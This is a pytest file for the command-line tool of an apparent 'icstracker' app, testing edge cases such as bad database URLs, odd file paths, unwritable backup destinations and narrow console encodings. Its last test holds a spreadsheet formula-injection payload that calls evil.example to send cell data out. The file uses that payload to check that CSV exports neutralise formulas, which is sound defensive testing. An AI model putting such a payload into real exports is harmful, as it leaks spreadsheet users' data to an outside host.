"""Awkward but real input to the command line: odd paths, bad URLs, narrow consoles."""

from __future__ import annotations

import io
import sqlite3
import sys
from pathlib import Path

import pytest

from icstracker.cli import main
from icstracker.db.backup import backup_sqlite


def _run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize(
    ("database", "words"),
    [
        ("", "--database is empty"),
        ("postgresql+psycopg://lpc:secret@server:port/lpc", "The database URL could not be read"),
        ("nosuchdb://lpc:secret@server/lpc", "cannot talk to 'nosuchdb' databases"),
    ],
)
def test_bad_database_values_are_one_sentence_without_the_password(
    capsys: pytest.CaptureFixture[str], database: str, words: str
) -> None:
    code, out, err = _run(capsys, "--database", database, "list")
    assert code == 5 and out == ""
    assert words in err and "secret" not in err
    assert len(err.strip().splitlines()) == 1


def test_check_never_creates_what_it_checks(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "nowhere" / "lpc.sqlite3"
    code, _, err = _run(capsys, "--database", str(missing), "check")
    assert code == 5 and "There is no database at" in err
    assert not missing.parent.exists()
    code, _, err = _run(capsys, "--database", str(tmp_path), "check")
    assert code == 5 and "is a folder, not a database file" in err
    junk = tmp_path / "junk.sqlite3"
    junk.write_bytes(b"not a database at all" * 300)
    code, _, err = _run(capsys, "--database", str(junk), "check")
    assert code == 5 and "is damaged" in err and "Traceback" not in err


def test_backup_of_a_path_with_uri_characters(
    sqlite_template: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "LPC 100% ?#minutes"
    folder.mkdir()
    database = backup_sqlite(sqlite_template, folder / "lpc.sqlite3")
    out_file = folder / "copy.sqlite3"
    code, out, err = _run(capsys, "--database", str(database), "backup", "--out", str(out_file))
    assert (code, err) == (0, "")
    with sqlite3.connect(out_file) as copy:
        assert copy.execute("SELECT count(*) FROM area").fetchone()[0] > 1000


def test_backup_to_an_unwritable_place_blames_the_destination(
    sqlite_template: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    database = backup_sqlite(sqlite_template, tmp_path / "lpc.sqlite3")
    a_file = tmp_path / "notes.txt"
    a_file.write_text("not a folder")
    code, _, err = _run(
        capsys, "--database", str(database), "backup", "--out", str(a_file / "copy.sqlite3")
    )
    assert code == 6
    assert "Cannot write the backup to" in err and str(a_file) in err
    assert str(database) not in err.replace(str(a_file), "")


def test_output_a_narrow_console_cannot_encode_does_not_lose_the_row(
    sqlite_template: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Windows pipes default to cp1252: the row is logged once and printed in UTF-8."""
    database = backup_sqlite(sqlite_template, tmp_path / "lpc.sqlite3")
    raw = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, encoding="cp1252"))
    args = ["--database", str(database), "log", "add", "--committee", "CP Lancashire"]
    args += ["--date", "2026-11-02", "--area", "QE1", "--kind", "meeting"]
    args += ["--title", "Zoë Ní Bhriain — 薬局 review"]
    assert main(args) == 0
    sys.stdout.flush()
    printed = raw.getvalue().decode("utf-8")
    assert "Zoë Ní Bhriain — 薬局 review" in printed and "·" in printed
    with sqlite3.connect(database) as connection:
        assert connection.execute("SELECT count(*) FROM engagement").fetchone() == (1,)


def test_csv_output_never_hands_a_spreadsheet_a_formula(
    sqlite_template: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    database = backup_sqlite(sqlite_template, tmp_path / "lpc.sqlite3")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Minutes")'
    args = ["--database", str(database), "log", "add", "--committee", "CP Lancashire"]
    args += ["--date", "2026-11-02", "--area", "QE1", "--kind", "meeting", "--title", hostile]
    assert main(args) == 0
    capsys.readouterr()
    assert main(["--database", str(database), "list", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "'" + hostile.replace('"', '""') in out
    assert ',"=HYPERLINK' not in out and ",=HYPERLINK" not in out
